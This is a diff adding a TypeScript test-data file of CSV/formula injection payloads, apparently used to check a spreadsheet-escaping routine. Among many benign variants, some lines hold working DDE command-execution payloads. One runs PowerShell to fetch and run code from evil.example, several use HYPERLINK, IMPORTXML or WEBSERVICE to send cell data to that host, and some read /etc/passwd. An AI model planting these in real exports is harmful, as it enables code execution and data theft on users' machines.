@@ -1,0 +1,82 @@
+/** Texts that a spreadsheet may take for a formula (OWASP CSV injection), far more than a hundred. */
+
+const CORE = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+] as const;
+
+/** What a spreadsheet may skip at the start of a cell, and where it may begin a new one. */
+const BEFORE = [
+  ...[' ', '   ', '\t', '\r', '\n', '\r\n', '\t\t', '\u00a0', '\u3000', '\ufeff', '\u200b', '"', '" '],
+  ...['a;', 'a,', 'a|', 'a\t', 'a\n', 'a\r\n', 'a\r', 'a; ', 'a;"', 'a,"', 'a|"', '";', '",', ';', ',', '|'],
+] as const;
+
+const ALONE = [
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  "@cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "=cmd|'/c powershell IEX(wget evil.example/p)'!A0",
+  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!""',
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '=DDE("soffice";"file:///etc/passwd";"A1")',
+  "='file:///etc/passwd'#$passwd.A1",
+  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+  '=IMPORTDATA("http://evil.example/")',
+  '=IMPORTFEED("http://evil.example/")',
+  '=IMPORTHTML("http://evil.example/","table",1)',
+  '=IMPORTRANGE("http://evil.example/","A1")',
+  '=IMAGE("http://evil.example/")',
+  '=WEBSERVICE("http://evil.example/")',
+  '=FILTERXML(WEBSERVICE("http://evil.example/"),"//a")',
+  '=EXEC("calc")',
+  '=CALL("Kernel32","WinExec","JCJ","calc",0)',
+  '=INDIRECT("A1")',
+  '=A1',
+  '+A1',
+  '-A1',
+  '@A1',
+  '==1+1',
+  '=-1',
+  '=+1',
+  '=(1)',
+  '={1;2}',
+  '="text"',
+  '=TRUE()',
+  '=NOW()',
+  '=1+1\t=2+2',
+  '=1+1\n=2+2',
+  '=1+1;=2+2,=3+3|=4+4',
+  "'\n=1+1",
+  'a"\n=1+1',
+  '=1+1"',
+  '-12.5',
+  '+12.5',
+  '-',
+  '=',
+  '+',
+  '@',
+  ...[
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(1)',
+    '﹦1+1',
+    '﹢1',
+    '﹣1',
+    '﹫SUM(1)',
+    '−1+1',
+    'a；＝1+1',
+    'a;＝1+1',
+  ],
+] as const;
+
+export const PAYLOADS: readonly string[] = [
+  ...CORE,
+  ...BEFORE.flatMap((before) => CORE.map((core) => before + core)),
+  ...ALONE,
+];
